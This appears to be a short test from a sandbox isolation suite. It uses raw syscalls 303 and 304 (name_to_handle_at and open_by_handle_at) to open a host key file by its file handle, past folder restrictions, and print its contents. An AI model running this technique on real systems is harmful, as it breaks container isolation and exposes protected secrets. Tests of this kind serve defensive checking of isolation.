# about: opens a file by its number on the disk, past all folders
# bare: secret if root x86_64
# profiles: single tests
import ctypes
import os

with attempt("a handle of the key"):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle, 0).value = 128
    where = ctypes.c_int()
    syscall(303, -100, HOST["key"].encode(), handle, ctypes.addressof(where), 0)
    here = os.open("/", os.O_RDONLY)
    print(os.read(syscall(304, here, handle, 0), 4096))
